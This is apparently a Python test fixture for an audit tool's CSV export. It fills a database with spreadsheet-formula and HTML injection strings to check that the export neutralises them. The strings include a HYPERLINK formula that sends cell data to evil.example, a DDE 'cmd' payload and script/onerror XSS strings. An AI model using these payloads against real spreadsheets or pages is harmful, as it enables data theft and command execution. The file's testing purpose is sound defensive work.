"""Shared by the export tests: a real database filled through the services.

The tool below has every question type, a multi question too long to
pre-build (so the general SQL path runs), and text a QA lead could write
that looks like a spreadsheet formula. ``HOSTILE`` is the corpus of cell
contents that must survive the CSV round trip exactly, and be neutralised.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass
from pathlib import Path

from auditui.config import Config, UserConfig
from auditui.services import actions, audits
from auditui.services.workspace import Workspace
from auditui.tools.library import ToolLibrary

TODAY = dt.date(2026, 3, 2)

EXPORT_TOOL = """\
format: 1
id: export-test
version: 1
title: Export test tool
grading: {overall: lowest_section}
sections:
  - id: practice
    title: Practice
    grading: score
    questions:
      - id: plan_smart
        text: Is the plan SMART?
        type: yes_partly_no
        points: {yes: 2, partly: 1, no: 0}
      - id: seen_alone
        text: Was the child seen alone?
        type: yes_no
        allow_na: true
        points: {yes: 1, no: 0}
  - id: voice
    title: '=Voice, “quoted” & naïve'
    questions:
      - id: quality
        text: '=SUM(1,2) how good is the "plan"?'
        type: grade
      - id: tools_used
        text: Which direct-work tools were used?
        type: multi
        options:
          - {id: momo, label: Mind of My Own}
          - {id: three_houses, label: Three Houses}
          - {id: other, label: '-Other, "odd"'}
      - id: many_tools
        text: Which of many tools?
        type: multi
        required: false
        options:
          - {id: t1, label: Tool one}
          - {id: t2, label: Tool two}
          - {id: t3, label: Tool three}
          - {id: t4, label: Tool four}
          - {id: t5, label: Tool five}
          - {id: t6, label: Tool six}
          - {id: t7, label: Tool seven}
          - {id: t8, label: Tool eight}
          - {id: t9, label: '@Tool nine'}
      - id: route
        text: How was the child seen?
        type: choice
        required: false
        allow_na: true
        options:
          - {id: home, label: At home}
          - {id: school, label: At school}
      - id: notes
        text: Notes
        type: text
        required: false
      - id: balance
        text: A number that can be negative
        type: number
        required: false
        min: -100
        max: 100
      - id: last_visit
        text: When was the last visit?
        type: date
        required: false
"""

HOSTILE = (
    "=1+1",
    "+44 20 7946 0000",
    "-2 days late",
    "@SUM(A1:A9)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "naïve café — “curly quotes” and ‘single’ ones",
    'He said "no", then left',
    "line one\nline two\r\nline three",
    "comma, separated, text",
    "'already starts with a quote",
    "  =leading spaces are not a formula",
    "<script>alert('x')</script> & <b>bold</b>",
    "<img src=x onerror=\"document.body.setAttribute('data-pwned', '1')\">",
    "emoji 🙂, Welsh ŵŷ, 中文",
    'trailing quote"',
    '"',
)
"""Cell contents that must come back exactly (with ``'`` before formula starts)."""

USER = '=HYPERLINK("http://evil.example","me")'
"""A configured user name is written to every answer: it is hostile too."""


def expected_cell(text: str) -> str:
    """What a spreadsheet must show for ``text``: formula starts get a ``'``."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def read_csv(data: bytes) -> list[list[str]]:
    """Parse CSV bytes as Excel would: UTF-8 with an optional BOM, RFC 4180."""
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def as_dicts(data: bytes) -> list[dict[str, str]]:
    rows = read_csv(data)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@dataclass
class Filled:
    """The ids a test needs to find its rows again."""

    ws: Workspace
    hostile_audits: list[str]
    finalised: str
    draft: str
    closed: str


def make_workspace(db: Path, tools: Path, user: str = USER) -> Workspace:
    config = Config(user=UserConfig(name=user))
    ws = Workspace.open(db, ToolLibrary.load([tools], include_shipped=False), config)
    ws.today = lambda: TODAY
    return ws


def answer_all(ws: Workspace, audit_id: str, evidence: str | None = None) -> None:
    audits.answer(ws, audit_id, "plan_smart", "partly", evidence)
    audits.answer(ws, audit_id, "seen_alone", "na")
    audits.answer(ws, audit_id, "quality", "requires_improvement")
    audits.answer(ws, audit_id, "tools_used", ["momo", "other"])
    audits.answer(ws, audit_id, "many_tools", ["t2", "t9"])
    audits.answer(ws, audit_id, "route", "school")
    audits.answer(ws, audit_id, "balance", -5)
    audits.answer(ws, audit_id, "last_visit", "2026-02-20")


def _hostile_names(ws: Workspace, audit_id: str, text: str) -> None:
    """Team and practitioner as ``text``, as a database written before names were
    checked (one line, trimmed) may hold them: the export must still carry them."""
    with ws.store.transaction() as conn:
        conn.execute(
            "UPDATE audits SET team = ?, practitioner = ? WHERE id = ?", (text, text, audit_id)
        )
    ws.audit_cache.clear()


def fill(ws: Workspace) -> Filled:
    """A finalised audit with actions, a draft, a closed one, and one audit per hostile text."""
    hostile_ids = []
    for n, text in enumerate(HOSTILE):
        audit_id = audits.start_audit(
            ws,
            "export-test",
            f"H{n:04d}",
            "CP",
            "Team",
            "Practitioner",
            n % 2 == 0,
            started_on=dt.date(2026, 1, 5),
        )
        _hostile_names(ws, audit_id, text)
        answer_all(ws, audit_id, evidence=text)
        audits.answer(ws, audit_id, "notes", text)
        audits.set_evidence(ws, audit_id, "quality", text)
        hostile_ids.append(audit_id)
    finalised = audits.start_audit(
        ws,
        "export-test",
        "F0001",
        "CIN",
        "North",
        "Sam Taylor",
        True,
        started_on=dt.date(2026, 1, 12),
    )
    answer_all(ws, finalised, evidence="Plan reviewed; no timescales.")
    audits.set_grade(ws, finalised, "voice", "good")
    audits.set_grade(
        ws, finalised, "overall", "good", "Moderated: the impact for the child is strong."
    )
    audits.finalise(ws, finalised, dt.date(2026, 1, 14))
    ws.today = lambda: dt.date(2026, 1, 14)  # actions are agreed at the audit
    on_time = actions.add_action(ws, finalised, "Sam Taylor", "Update the chronology")
    late = actions.add_action(
        ws, finalised, "=Team manager", "-Record the contingency\nand share it"
    )
    actions.add_action(ws, finalised, "Sam Taylor", "See the child alone")
    ws.today = lambda: TODAY  # and recorded done on or before today
    actions.complete_action(ws, on_time, dt.date(2026, 1, 20))
    actions.complete_action(ws, late, dt.date(2026, 2, 27))
    draft = audits.start_audit(
        ws,
        "export-test",
        "D0001",
        "CP",
        "South",
        "Alex Morgan",
        False,
        started_on=dt.date(2026, 2, 2),
    )
    audits.answer(ws, draft, "plan_smart", "yes")
    closed = audits.start_audit(
        ws,
        "export-test",
        "C0001",
        "CLA",
        "South",
        "Alex Morgan",
        True,
        started_on=dt.date(2026, 2, 3),
    )
    audits.close_incomplete(ws, closed, "Case transferred.", dt.date(2026, 2, 10))
    return Filled(ws, hostile_ids, finalised, draft, closed)
